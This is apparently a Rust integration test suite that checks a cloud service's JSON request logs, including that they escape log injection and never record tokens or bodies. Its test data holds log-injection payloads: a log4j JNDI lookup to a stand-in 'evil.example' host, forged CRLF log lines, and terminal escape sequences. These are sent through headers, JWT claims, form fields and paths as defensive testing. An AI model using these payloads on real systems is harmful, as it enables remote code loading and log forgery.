//! Logs: one JSON object on each line, without log injection, tokens or bodies.

use std::collections::BTreeSet;

use archive_builder::Tarball;
use http::Method;
use local::{
    catalog::SAMPLE_ORGANIZATION,
    csp::Token,
    function::{FunctionLimits, FunctionName},
};
use serde_json::{Value, json};
use shared::domain::Timestamp;
use tests::{
    api::{Api, Response},
    form::{Form, archive},
    jwt::{Jwt, TestKey},
    stack::{ProxiedStack, SAMPLE_CATALOG, TestStack, UNREACHABLE_ENDPOINT},
};
use uuid::Uuid;

/// Marker in every token that the tests send.
const IN_TOKEN: &str = "marker-of-a-token";

/// Marker in every body that the tests send.
const IN_BODY: &str = "marker-of-a-body";

/// Injections for terminals, line-based log readers, JSON parsers and log4j.
const INJECTIONS: [&str; 7] = [
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\n",
    "\",\"level\":\"ERROR\",\"forged\":\"",
    "\u{9b}31m\u{85}\u{2028}",
    "\u{202e}\u{2066}\u{feff}",
    "\0\u{8}\u{7f}",
    "${jndi:ldap://evil.example/x}%n%s",
];

fn percent_encoded(injection: &str) -> String {
    injection.bytes().fold(String::new(), |text, byte| format!("{text}%{byte:02X}"))
}

/// Sends tokens with the injection in a different member each.
async fn send_tokens(api: &Api, injection: &str) -> Vec<Response> {
    let text = format!("{IN_TOKEN}{injection}");
    let jwt = || Jwt::from_token(Token::default().claim("jti", IN_TOKEN));
    let claim = |name: &str| {
        Jwt::from_token(Token::default().claim(name, json!({ "x": text })).claim("jti", IN_TOKEN))
    };
    let tokens = [
        jwt().header("alg", text.clone()).signed_by(TestKey::ISSUER),
        jwt().header("kid", text.clone()).signed_by(TestKey::ISSUER),
        jwt().header("typ", text.clone()).signed_by(TestKey::ATTACKER),
        jwt().header("crit", json!([text])).signed_by(TestKey::ISSUER),
        jwt().prepend_claims(&text).signed_by(TestKey::ISSUER),
        jwt().signed_with(|_| IN_TOKEN.to_owned()),
        claim("iss").signed_by(TestKey::ISSUER),
        claim("exp").signed_by(TestKey::ISSUER),
        claim("context_name").signed_by(TestKey::ISSUER),
        claim("username").signed_by(TestKey::ISSUER),
        // The organization of a valid token is logged, so this one has no marker.
        Jwt::from_token(Token::default().organization(injection)).signed_by(TestKey::ISSUER),
        Jwt::from_token(Token::default().claim("perms", json!([text]))).signed_by(TestKey::ISSUER),
        Jwt::from_token(Token::default().claim("iss", text.clone())).signed_by(TestKey::ISSUER),
    ];
    let mut responses = Vec::new();
    for token in tokens.iter().map(String::as_str).chain([IN_TOKEN]) {
        let api = api.headers(&[("csp-auth-token", token)]);
        responses.push(api.customization("x").await);
        responses.push(api.create(Form::upload()).await);
    }
    responses
}

/// Sends forms with the injection in a different place each.
async fn send_forms(api: &Api, injection: &str) -> Vec<Response> {
    let text = format!("{IN_BODY}{injection}");
    let one_line = text.replace(['\r', '\n', '\0'], " ");
    let unnamed = format!("Content-Disposition: form-data; x={one_line}");
    let entry = Tarball::new().file(&text, IN_BODY.as_bytes()).gzip();
    let forms = [
        Form::upload().text("name", &text),
        Form::upload().text("description", &text),
        Form::upload().text("filter", &text),
        Form::upload().text("filter", &json!(text).to_string()),
        Form::upload().filter(json!({ &text: text })),
        Form::upload().filter(json!({ "product_key": text })),
        Form::upload().text(&one_line, &text),
        Form::new().file(&one_line, &archive()),
        Form::new().file("a.tgz", text.as_bytes()),
        Form::new().file("a.tgz", &entry),
        Form::new().part(&unnamed, text.as_bytes()),
        Form::upload().preamble(&text).epilogue(&text),
    ];
    let mut responses = Vec::new();
    for form in forms {
        responses.push(api.create(form).await);
    }
    responses.push(api.post(SAMPLE_CATALOG, "text/plain", text.clone().into_bytes()).await);
    responses
}

/// Sends requests with the injection in the path, the query or a header.
async fn send_heads(api: &Api, injection: &str) -> Vec<Response> {
    let text = percent_encoded(injection);
    let header: String = injection.chars().filter(|c| matches!(c, ' '..='~')).collect();
    let in_headers = api
        .header("user-agent", &header)
        .header("x-amzn-trace-id", &header)
        .header("idempotency-key", &header);
    vec![
        api.get(&format!("/v1/catalogs/{text}/customizations/x")).await,
        api.customization(&text).await,
        api.get(&format!("/v1/catalogs/{SAMPLE_CATALOG}/files/{text}?filename=x")).await,
        api.get(&format!("/v1/catalogs/{SAMPLE_CATALOG}/files/x?filename={text}&{text}={text}"))
            .await,
        api.create_in(&text, Form::upload()).await,
        in_headers.header("if-none-match", &header).customization("x").await,
        in_headers.create(Form::upload()).await,
    ]
}

/// The log line of the request with this response, without the members that vary. Asserts their
/// format.
fn fixed_members(stack: &TestStack, response: &Response) -> Value {
    let mut line = stack.log_line_of(response);
    let members = line.as_object_mut().unwrap();
    let mut take = |name: &str| members.remove(name).unwrap_or_else(|| panic!("{name}"));
    assert_eq!(take("request_id"), response.header("x-amzn-requestid"));
    Timestamp::try_from(take("timestamp").as_str().unwrap().to_owned()).unwrap();
    Uuid::parse_str(take("function_request_id").as_str().unwrap()).unwrap();
    let trace = take("xray_trace_id");
    let parts: Vec<_> = trace.as_str().unwrap().split('-').map(str::len).collect();
    assert_eq!(parts, [1, 8, 24], "{trace}");
    assert!(take("duration_ms").as_f64().unwrap() > 0.0);
    line
}

#[tokio::test]
async fn a_log_line_has_the_request_the_organization_and_the_outcome() {
    let stack = TestStack::start().await;
    let api = stack.api();
    let missing_id = Uuid::now_v7().to_string();

    let created = api.create(Form::upload()).await;
    let id = created.id();
    let expected = json!({
        "level": "INFO",
        "message": "responded",
        "service": "write-customizations",
        "cold_start": true,
        "method": "POST",
        "route": "/catalogs/{catalog_id}/customizations",
        "status": 201,
        "org_id": SAMPLE_ORGANIZATION,
        "catalog_id": SAMPLE_CATALOG,
        "customization_id": id,
    });
    assert_eq!(fixed_members(&stack, &created), expected);

    let refused = api.create(Form::new()).await;
    let expected = json!({
        "level": "INFO",
        "message": "refused",
        "service": "write-customizations",
        "cold_start": false,
        "method": "POST",
        "route": "/catalogs/{catalog_id}/customizations",
        "status": 400,
        "problem": "validation-error",
        "org_id": SAMPLE_ORGANIZATION,
        "catalog_id": SAMPLE_CATALOG,
    });
    assert_eq!(fixed_members(&stack, &refused), expected);

    let missing = api.customization(&missing_id).await;
    let expected = json!({
        "level": "INFO",
        "message": "refused",
        "service": "read-customizations",
        "cold_start": true,
        "method": "GET",
        "route": "/catalogs/{catalog_id}/customizations/{customization_id}",
        "status": 404,
        "problem": "customization-not-found",
        "org_id": SAMPLE_ORGANIZATION,
        "catalog_id": SAMPLE_CATALOG,
        "customization_id": missing_id,
    });
    assert_eq!(fixed_members(&stack, &missing), expected);

    let anonymous = api.headers(&[]).customization(&id).await;
    let expected = json!({
        "level": "INFO",
        "message": "refused",
        "service": "read-customizations",
        "cold_start": false,
        "method": "GET",
        "route": "/catalogs/{catalog_id}/customizations/{customization_id}",
        "status": 401,
        "problem": "unauthenticated",
        "cause": "there is no token",
    });
    assert_eq!(fixed_members(&stack, &anonymous), expected);
}

#[tokio::test]
async fn a_failure_is_logged_with_its_full_cause_at_every_log_level() {
    for level in ["TRACE", "ERROR"] {
        let stack = TestStack::start_with(&[
            ("AWS_LAMBDA_LOG_LEVEL", Some(level)),
            ("AWS_ENDPOINT_URL_DYNAMODB", Some(UNREACHABLE_ENDPOINT)),
        ])
        .await;
        let line = fixed_members(&stack, &stack.api().customization("x").await);
        assert_eq!(line["level"], "ERROR");
        assert_eq!(line["message"], "failed");
        assert_eq!(line["status"], 503);
        assert_eq!(line["org_id"], SAMPLE_ORGANIZATION);
        let cause = line["cause"].as_str().unwrap();
        assert!(cause.starts_with("batch get items: not available: "), "{cause}");
        assert!(cause.to_lowercase().ends_with("connection refused (os error 111)"), "{cause}");
    }
}

#[tokio::test]
async fn a_line_below_the_log_level_is_not_written() {
    let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", Some("WARN"))]).await;
    assert_eq!(stack.api().create(Form::upload()).await.status, 201);
    let log = stack.log(FunctionName::WriteCustomizations);
    assert!(!log.contains("\"message\""), "the log has only metrics: {log}");
}

#[tokio::test]
async fn the_level_debug_logs_the_duration_of_each_span_of_a_request() {
    let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", Some("DEBUG"))]).await;
    let api = stack.api();
    let created = api.create(Form::upload().filter(json!({"product_key": "apache_kafka"}))).await;
    let found = api.customization(&created.id()).await;
    let stores = ["DynamoDB.BatchGetItem", "DynamoDB.Query"];
    let create = ["DynamoDB.TransactWriteItems", "S3.PutObject", "archive", "form", "token"];
    for (response, function, other_spans) in [
        (created, FunctionName::WriteCustomizations, &create[..]),
        (found, FunctionName::ReadCustomizations, &["token"]),
    ] {
        let log = stack.log(function);
        let lines = log.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let is_of_request =
            |line: &Value| line["request_id"] == response.header("x-amzn-requestid");
        let spans = lines.filter(is_of_request).filter(|line| line["message"] == "span");
        let mut seen = BTreeSet::new();
        for span in spans {
            assert_eq!(span["level"], "DEBUG");
            assert_eq!(span["service"], function.as_str());
            assert!(span["duration_ms"].as_f64().unwrap() >= 0.0, "{span}");
            seen.insert(span["span"].as_str().unwrap().to_owned());
        }
        let expected = stores.iter().chain(other_spans).map(ToString::to_string).collect();
        assert_eq!(seen, expected);
    }
}

#[tokio::test]
async fn store_requests_carry_the_trace_id_of_the_request() {
    let ProxiedStack { stack, dynamodb, s3 } = ProxiedStack::start(FunctionLimits::AWS).await;
    // Discards the requests of the cold start, which have no trace.
    drop((dynamodb.take_traces(), s3.take_traces()));
    for _ in 0..2 {
        let created = stack.api().create(Form::upload()).await;
        let line = stack.log_line_of(&created);
        let root = format!("Root={}", line["xray_trace_id"].as_str().unwrap());
        for traces in [dynamodb.take_traces(), s3.take_traces()] {
            assert!(!traces.is_empty());
            for trace in traces {
                assert_eq!(trace.split(';').next(), Some(&*root));
            }
        }
    }
}

#[tokio::test]
async fn log_injection_is_escaped_and_no_token_or_body_is_logged() {
    for level in [None, Some("TRACE")] {
        let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", level)]).await;
        let token =
            Jwt::from_token(Token::default().claim("jti", IN_TOKEN)).signed_by(TestKey::ISSUER);
        let api = stack.api().headers(&[("authorization", &format!("Bearer {token}"))]);
        let mut responses = Vec::new();
        for injection in INJECTIONS {
            responses.extend(send_tokens(&stack.api(), injection).await);
            responses.extend(send_forms(&api, injection).await);
            responses.extend(send_heads(&api, injection).await);
        }
        for response in &responses {
            assert!(response.status < 500, "{response:?}");
            let line = stack.log_line_of(response);
            assert_eq!(line["status"], response.status);
            let has_cause = line["cause"].is_string();
            assert!(response.status != 401 || has_cause, "the line of a 401 has a cause: {line}");
        }
        let tokens = [&token, "eyJ", IN_TOKEN];
        for log in FunctionName::ALL.map(|function| stack.log(function)) {
            assert!(log.lines().count() > 100, "each request has a line");
            for line in log.lines() {
                let object = serde_json::from_str::<Value>(line);
                assert!(object.is_ok_and(|object| object.is_object()), "{line}");
                assert!(line.bytes().all(|byte| matches!(byte, b' '..=b'~')), "{line}");
                assert!(!line.contains(IN_BODY), "{line}");
                assert!(!tokens.iter().any(|token| line.contains(token)), "{line}");
                assert!(!line.contains("forged\":"), "{line}");
            }
        }
    }
}

#[tokio::test]
async fn a_request_without_a_route_is_not_logged() {
    let stack = TestStack::start().await;
    let logs = || FunctionName::ALL.map(|function| stack.log(function));
    let before = logs();
    let api = stack.api();
    for path in ["/", "/v1/catalogs", "/v1/%0D%0Aforged"] {
        assert_eq!(api.send(Method::PUT, path, IN_BODY.into()).await.status, 404);
    }
    assert_eq!(logs(), before);
}
